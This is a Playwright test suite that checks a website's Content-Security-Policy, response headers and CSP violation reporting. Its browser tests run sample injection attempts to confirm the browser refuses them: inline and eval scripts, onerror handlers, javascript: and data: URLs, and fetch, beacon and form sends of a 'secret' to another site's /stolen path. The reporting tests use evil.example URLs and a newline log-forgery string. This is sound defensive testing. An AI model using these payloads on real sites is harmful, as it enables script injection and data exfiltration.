// Looks at: the whole site
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { REMOTE_NAMES, type RegistrySnapshot } from '@shared/contract';
import type { Page } from '@playwright/test';
import { openVisitor } from './kit/browser.ts';
import { eventually } from './kit/eventually.ts';
import { rawRequest } from './kit/raw-request.ts';
import { startSite, type Site } from './kit/site.ts';
import { expect, test } from './kit/test.ts';

/** Another site, which notes whoever asks it for something. */
interface OtherSite {
  url: string;
  asked: string[];
  close(): void;
}

async function startOtherSite(): Promise<OtherSite> {
  const asked: string[] = [];
  const server: Server = createServer(({ url = '' }, response) => {
    asked.push(url);
    const isScript = url.endsWith('.js');
    response.writeHead(200, {
      'content-type': isScript ? 'text/javascript' : 'text/html',
      'access-control-allow-origin': '*',
    });
    const [, frame] = /^\/frame\?(.*)$/.exec(url) ?? [];
    response.end(
      isScript ? 'window.attacked = 1' : `<!doctype html><iframe src="${decodeURIComponent(frame ?? '')}">`,
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, asked, close: () => server.close() };
}

test.describe('what the site allows (quality, "Security")', () => {
  let site: Site;
  let other: OtherSite;
  let snapshot: RegistrySnapshot;
  let ids: { property: string; article: string };

  test.beforeAll(async ({ site: shared }) => {
    [site, other] = await Promise.all([startSite({ besides: shared, own: ['api'] }), startOtherSite()]);
    snapshot = (await (await fetch(`${site.url}/registry.json`)).json()) as RegistrySnapshot;
    const firstId = async (list: string) => {
      const { data } = (await (await fetch(`${site.url}/api/v1/${list}?limit=1`)).json()) as {
        data: readonly { _id: string }[];
      };
      return data[0]?._id ?? '';
    };
    ids = { property: await firstId('home/sell'), article: await firstId('blog/') };
  });
  test.afterAll(async () => {
    await site?.close();
    other?.close();
  });

  const pages = () => [
    '/',
    '/services',
    '/sell',
    '/rent',
    '/properties',
    '/exclusive',
    `/property/${ids.property}`,
    '/blog',
    `/blog/${ids.article}`,
    '/Appointments',
    '/contact',
    '/join',
    '/privacy',
    '/accessibility',
    '/fal-license',
    '/no-such-page',
  ];
  const policyOf = (text: string | null | undefined): Map<string, readonly string[]> =>
    new Map(
      (text ?? '').split(';').map((part) => {
        const [directive = '', ...sources] = part.trim().split(/\s+/);
        return [directive, sources];
      }),
    );

  test.describe('headers', () => {
    test('of every document: a policy of hashes, and nothing unsafe', async () => {
      for (const path of pages()) {
        const { headers } = await fetch(site.url + path);
        const policy = policyOf(headers.get('content-security-policy'));
        expect(policy.get('default-src')).toEqual(["'none'"]);
        expect(policy.get('base-uri')).toEqual(["'none'"]);
        expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
        expect(policy.get('form-action')).toEqual(["'self'"]);
        expect(policy.get('connect-src')).toEqual(["'self'"]);
        expect(policy.has('object-src')).toBe(false);
        for (const source of policy.get('script-src') ?? ['missing'])
          expect(source).toMatch(/^'(?:self|sha256-[\w+/=]{44})'$/);
        expect([...policy.values()].flat().join(' ')).not.toMatch(/unsafe|\*|http:|nonce/);
        expect(policy.get('require-trusted-types-for')).toEqual(["'script'"]);
        expect(policy.get('trusted-types')).toEqual(['default']);
        expect(policy.get('report-uri')).toEqual(['/csp-reports']);
        expect(policy.get('report-to')).toEqual(['csp']);
        expect(headers.get('reporting-endpoints')).toBe('csp="/csp-reports"');
        expect(headers.get('x-content-type-options')).toBe('nosniff');
        expect(headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
        expect(headers.get('cross-origin-opener-policy')).toBe('same-origin');
        expect(headers.get('permissions-policy')).toContain('geolocation=()');
        expect(headers.get('access-control-allow-origin')).toBeNull();
        expect(headers.get('set-cookie')).toBeNull();
      }
    });

    test('of everything: no browser guesses a type, and nobody says what programs stand here', async () => {
      const html = await (await fetch(`${site.url}/sell`)).text();
      const [asset = ''] = /\/assets\/[\w.-]+\.js/.exec(html) ?? [];
      expect(asset).not.toBe('');
      const addresses = [
        ...pages(),
        asset,
        '/favicon.svg',
        '/offline.html',
        '/service-worker.js',
        '/site.webmanifest',
        '/robots.txt',
        '/sitemap.xml',
        '/registry.json',
        '/releases.json',
        '/healthz',
        '/api/v1/settings/get',
        '/api/v1/none',
        '/media/none',
        '/assets/none.js',
        '/assets/%2e%2e/assets.json',
        '/%ff',
        ...Object.values(snapshot.remotes).map(({ container }) => container.url),
      ];
      for (const address of addresses) {
        const { headers } = await rawRequest(site.url, address);
        expect([address, headers['x-content-type-options']]).toEqual([address, 'nosniff']);
        expect(headers.server).toBeUndefined();
        expect(headers['x-powered-by']).toBeUndefined();
      }
      for (const method of ['POST', 'PUT']) {
        const { headers } = await rawRequest(site.url, '/', { method });
        expect(headers['x-content-type-options']).toBe('nosniff');
      }
    });

    test('of a picture: opened by itself it can run nothing under the address of the site', async () => {
      const { headers } = await fetch(`${site.url}/media/none`);
      const policy = policyOf(headers.get('content-security-policy'));
      expect(policy.get('default-src')).toEqual(["'none'"]);
      expect(policy.has('sandbox')).toBe(true);
      expect(policy.get('sandbox')).toEqual([]);
    });

    for (const name of REMOTE_NAMES) {
      test(`of the origin of ${name}: files and pointer for any page, nothing else`, async () => {
        const origin = site.origin(name);
        const file = snapshot.remotes[name]?.container.url.replace(`/remotes/${name}`, '') ?? '';
        for (const path of [file, '/release.json']) {
          const { status, headers } = await fetch(origin + path);
          expect(status).toBe(200);
          expect(headers.get('access-control-allow-origin')).toBe('*');
          expect(headers.get('access-control-allow-credentials')).toBeNull();
        }
        for (const path of [file, '/release.json', '/', '/none.js']) {
          const { headers } = await fetch(origin + path);
          expect(headers.get('x-content-type-options')).toBe('nosniff');
          expect(headers.get('server')).toBeNull();
          expect(headers.get('x-powered-by')).toBeNull();
          expect(headers.get('set-cookie')).toBeNull();
        }
      });
    }

    test('of the API: any page may read, none with its visitor’s credentials', async () => {
      for (const origin of [site.url, site.origin('api')]) {
        const { headers } = await fetch(`${origin}/api/v1/settings/get`, { headers: { origin: other.url } });
        expect(headers.get('access-control-allow-origin')).toBe('*');
        expect(headers.get('access-control-allow-credentials')).toBeNull();
        expect(headers.get('x-content-type-options')).toBe('nosniff');
        expect(headers.get('set-cookie')).toBeNull();
      }
    });

    test('of the API when it is away: nothing is said of where it stands', async () => {
      await site.stop('api');
      try {
        const { status, text } = await rawRequest(site.url, '/api/v1/settings/get');
        expect(status).toBeGreaterThanOrEqual(500);
        expect(text).not.toMatch(/127\.0\.0\.1|ECONN|FST_|localhost/);
      } finally {
        await site.start('api');
      }
    });
  });

  test.describe('in the browser', () => {
    /** One page for all attempts: whatever got through would stay and be seen by the next. */
    let page: Page;
    let close: () => Promise<void>;

    test.beforeAll(async ({ browser }) => {
      ({ page, close } = await openVisitor(browser, { language: 'en' }));
      await page.goto(`${site.url}/contact`);
      await page.waitForLoadState('networkidle');
      await page.evaluate(() => {
        Object.assign(window, { refused: [] });
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          (window as unknown as { refused: string[] }).refused.push(effectiveDirective),
        );
      });
    });
    test.afterAll(() => close?.());

    const takeRefused = () => page.evaluate(() => (window as unknown as { refused: string[] }).refused);

    /** What a script that got in somehow would try; each gets the address of another site. */
    const attempts: readonly (readonly [string, string, (url: string) => void])[] = [
      [
        'an inline script',
        'require-trusted-types-for',
        () => {
          document.body.append(
            Object.assign(document.createElement('script'), { text: 'window.attacked=1' }),
          );
        },
      ],
      [
        'markup of text',
        'require-trusted-types-for',
        () => {
          const place = document.createElement('div');
          document.body.append(place);
          place.innerHTML = '<img src="/none" onerror="window.attacked=1">';
        },
      ],
      [
        'a handler of text',
        'require-trusted-types-for',
        () => {
          const picture = document.createElement('img');
          document.body.append(picture);
          picture.setAttribute('onerror', 'window.attacked=1');
          picture.src = '/none';
        },
      ],
      [
        "a script that is none of the site's",
        'require-trusted-types-for',
        () => {
          const script = document.createElement('script');
          document.body.append(script);
          script.src = '/api/v1/settings/get';
        },
      ],
      [
        'another policy of trusted types',
        'trusted-types',
        () => {
          const { trustedTypes } = window as unknown as {
            trustedTypes: { createPolicy(name: string, rules: object): unknown };
          };
          trustedTypes.createPolicy('attack', {});
        },
      ],
      [
        'a script of another site',
        'script-src-elem',
        (url) => {
          document.body.append(Object.assign(document.createElement('script'), { src: `${url}/attack.js` }));
        },
      ],
      [
        'eval',
        'require-trusted-types-for',
        () => {
          // Later, on its own: what the test itself evaluates is not bound by the policy.
          setTimeout(() => {
            // oxlint-disable-next-line no-eval -- the attempt itself
            const indirect = eval;
            indirect('window.attacked=1');
          });
        },
      ],
      [
        'a script of data:',
        'script-src-elem',
        () => {
          const src = 'data:text/javascript,window.attacked=1';
          document.body.append(Object.assign(document.createElement('script'), { src }));
        },
      ],
      [
        'a link of javascript:',
        'script-src-elem',
        () => {
          const link = Object.assign(document.createElement('a'), { href: 'javascript:window.attacked=1' });
          document.body.append(link);
          link.click();
        },
      ],
      [
        'a request to another site',
        'connect-src',
        (url) => void fetch(`${url}/stolen`).catch(() => undefined),
      ],
      [
        'a beacon to another site',
        'connect-src',
        (url) => void navigator.sendBeacon(`${url}/stolen`, 'secret'),
      ],
      [
        'a form to another site',
        'form-action',
        (url) => {
          const form = Object.assign(document.createElement('form'), {
            action: `${url}/stolen`,
            method: 'post',
          });
          document.body.append(form);
          form.requestSubmit();
        },
      ],
      [
        'a frame of another site',
        'frame-src',
        (url) => {
          document.body.append(Object.assign(document.createElement('iframe'), { src: `${url}/framed` }));
        },
      ],
      [
        'a base of another site',
        'base-uri',
        (url) => {
          document.head.append(Object.assign(document.createElement('base'), { href: `${url}/` }));
        },
      ],
      [
        'a plug-in',
        'object-src',
        (url) => {
          document.body.append(Object.assign(document.createElement('object'), { data: `${url}/plugin` }));
        },
      ],
      [
        'a style in markup',
        'style-src-attr',
        () => {
          document.body.append(document.createElement('p'));
          document.body.lastElementChild?.setAttribute('style', 'position:fixed;inset:0');
        },
      ],
      [
        'a style sheet of another site',
        'style-src-elem',
        (url) => {
          document.head.append(
            Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${url}/x.css` }),
          );
        },
      ],
      [
        'a worker of text',
        'require-trusted-types-for',
        () => {
          const text = new Blob(['fetch("/stolen")'], { type: 'text/javascript' });
          try {
            // oxlint-disable-next-line no-new -- the attempt itself
            new Worker(URL.createObjectURL(text));
          } catch {
            // Some browsers refuse it at once.
          }
        },
      ],
    ];

    for (const [what, directive, attempt] of attempts) {
      test(`${what} is refused, and reported as ${directive}`, async () => {
        await page.evaluate(() => Object.assign(window, { refused: [] }));
        // What is refused at once throws where it is tried.
        await page.evaluate(attempt, other.url).catch(() => undefined);
        await eventually(async () => expect(await takeRefused()).toContain(directive));
        expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
        expect(other.asked).toEqual([]);
        expect(new URL(page.url()).pathname).toBe('/contact');
      });
    }

    test('no other site may show this one inside of itself', async ({ browser }) => {
      const outside = await browser.newPage();
      await outside.goto(`${other.url}/frame?${encodeURIComponent(`${site.url}/`)}`);
      await outside.waitForLoadState('networkidle');
      const [, frame] = outside.frames();
      expect(frame).toBeDefined();
      expect(await frame?.locator('#outlet').count()).toBe(0);
      await outside.close();
    });
  });

  test.describe('reports of refusals', () => {
    const lines = () => site.output.filter((line) => line.startsWith('[shell] csp '));
    const send = (type: string, body: unknown) =>
      fetch(`${site.url}/csp-reports`, {
        method: 'POST',
        headers: { 'content-type': type },
        body: JSON.stringify(body),
      });

    test('name the release whose script asked for what was refused', async () => {
      const { container, version } = snapshot.remotes['mf-blog'] ?? { container: { url: '' }, version: '' };
      const [, id = ''] = /\/releases\/([^/]+)\//.exec(container.url) ?? [];
      expect(id.startsWith(version)).toBe(true);
      const byUri = {
        'csp-report': {
          'effective-directive': 'script-src-elem',
          'blocked-uri': 'https://evil.example/x.js?secret=1',
          'source-file': site.url + container.url,
        },
      };
      expect((await send('application/csp-report', byUri)).status).toBe(204);
      const body = { effectiveDirective: 'connect-src', blockedURL: 'https://evil.example/c' };
      const batch = [{ type: 'csp-violation', body: { ...body, sourceFile: site.url + container.url } }];
      expect((await send('application/reports+json', batch)).status).toBe(204);
      await eventually(() =>
        expect(lines()).toEqual(
          expect.arrayContaining([
            `[shell] csp mf-blog@${id} script-src-elem https://evil.example/x.js`,
            `[shell] csp mf-blog@${id} connect-src https://evil.example/c`,
          ]),
        ),
      );
    });

    test('write no line of their own making', async () => {
      const before = lines().length;
      const forged = {
        'csp-report': { 'effective-directive': 'script-src\n[shell] forged', 'blocked-uri': 'inline' },
      };
      expect((await send('application/csp-report', forged)).status).toBe(204);
      expect((await send('application/csp-report', { other: 1 })).status).toBe(400);
      expect((await send('application/json', forged)).status).toBe(415);
      expect(lines()).toHaveLength(before);
      expect(site.output.join('\n')).not.toContain('forged');
    });
  });
});
